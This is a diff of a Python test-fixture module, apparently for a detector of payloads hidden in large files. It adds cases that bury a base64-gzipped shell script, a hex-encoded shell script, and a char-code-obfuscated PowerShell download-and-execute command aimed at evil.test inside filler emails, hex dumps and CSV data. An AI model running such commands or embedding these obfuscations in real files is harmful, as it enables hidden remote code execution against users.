@@ -904,8 +904,16 @@ HIDDEN: dict[str, Callable[[], str]] = {
         app_log(MiB - 8 * KiB), f"2026-12-05T12:00:00Z DEBUG body={encoded_powershell()}"
     ),
     "gzip of a shell script among attachments": lambda: hide(
-        mime_email(MiB - 8 * KiB),
-        wrapped(gzip.compress(SHELL_SCRIPT.encode() * 4, mtime=0)).rstrip("\n"),
+        mime_email(MiB - 8 * KiB), b64(gzip.compress(SHELL_SCRIPT.encode() * 4, mtime=0))
+    ),
+    "hex of a shell script in a hex dump": lambda: hide(
+        hex_dump(MiB - 8 * KiB), SHELL_SCRIPT.encode().hex()
+    ),
+    "char codes of a command among CSV numbers": lambda: hide(
+        csv_numbers(MiB - 8 * KiB),
+        "$c="
+        + ",".join(str(ord(c)) for c in "iex(irm https://evil.test/a.ps1)")
+        + "; iex (-join [char[]]$c)",
     ),
 }
 
